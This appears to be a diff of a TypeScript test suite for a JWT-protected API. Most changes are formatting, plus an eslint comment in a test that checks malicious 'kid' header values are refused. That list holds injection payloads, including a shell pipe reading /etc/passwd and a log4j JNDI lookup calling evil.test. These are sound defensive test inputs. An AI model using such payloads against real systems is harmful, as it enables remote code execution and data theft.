@@ -41,7 +41,7 @@ const SERVER_PRIVATE: KeyObject = serverKey.privateKey
 const SERVER_KID = serverKey.kid
 const SERVER_PEM = app.keys.publicKeyPem(SERVER_KID)!
 const SERVER_JWK = json<{ keys: JWK[] }>(await app.inject({ method: 'GET', url: '/.well-known/jwks.json' })).keys.find(
-  (k) => k.kid === SERVER_KID,
+  (k) => k.kid === SERVER_KID
 )!
 
 // Key generation off the event loop: a blocked loop would trip the service's load shedding.
@@ -57,7 +57,7 @@ type Claims = Record<string, unknown>
 
 const nowSeconds = () => Math.floor(Date.now() / 1000)
 
-function claims(overrides: Claims = {}): Claims {
+function claims (overrides: Claims = {}): Claims {
   const iat = nowSeconds()
   const base: Claims = {
     iss: config.issuer,
@@ -76,31 +76,31 @@ function claims(overrides: Claims = {}): Claims {
   return merged
 }
 
-function header(overrides: Header = {}): Header {
+function header (overrides: Header = {}): Header {
   const merged: Header = { alg: 'ES256', kid: SERVER_KID, typ: 'at+jwt', ...overrides }
   for (const [key, value] of Object.entries(merged)) if (value === undefined) delete merged[key]
   return merged
 }
 
-function hmac(algorithm: 'sha256' | 'sha384' | 'sha512', secret: string | Buffer, h: Header, c: Claims): string {
+function hmac (algorithm: 'sha256' | 'sha384' | 'sha512', secret: string | Buffer, h: Header, c: Claims): string {
   const input = `${b64(h)}.${b64(c)}`
   return `${input}.${createHmac(algorithm, secret).update(input).digest('base64url')}`
 }
 
 const serverSigned = (h: Header = {}, c: Claims = {}) => es256(SERVER_PRIVATE, header(h), claims(c))
 
-function me(authorization: string | undefined) {
+function me (authorization: string | undefined) {
   return app.inject({ method: 'GET', url: '/users/me', headers: authorization === undefined ? {} : { authorization } })
 }
 
-async function assertRefused(t: Test, token: string, label: string) {
+async function assertRefused (t: Test, token: string, label: string) {
   const response = await me(`Bearer ${token}`)
   t.equal(response.statusCode, 401, `${label}: 401 (${response.body.slice(0, 160)})`)
   t.match(response.headers['www-authenticate'], /^Bearer error="invalid_token"/, `${label}: WWW-Authenticate invalid_token`)
   t.equal(json(response).code, 'invalid_token', `${label}: code invalid_token`)
 }
 
-async function assertAccepted(t: Test, token: string, label: string) {
+async function assertAccepted (t: Test, token: string, label: string) {
   const response = await me(`Bearer ${token}`)
   t.equal(response.statusCode, 200, `${label}: 200 (${response.body.slice(0, 160)})`)
 }
@@ -195,6 +195,7 @@ t.test('kid injection strings are refused', async (t) => {
     `${SERVER_KID}\u0000`,
     ` ${SERVER_KID}`,
     '|cat /etc/passwd',
+    // eslint-disable-next-line no-template-curly-in-string -- the literal text of a log4j lookup, an injection payload
     '${jndi:ldap://evil.test/a}',
   ]
   for (const kid of kids) {
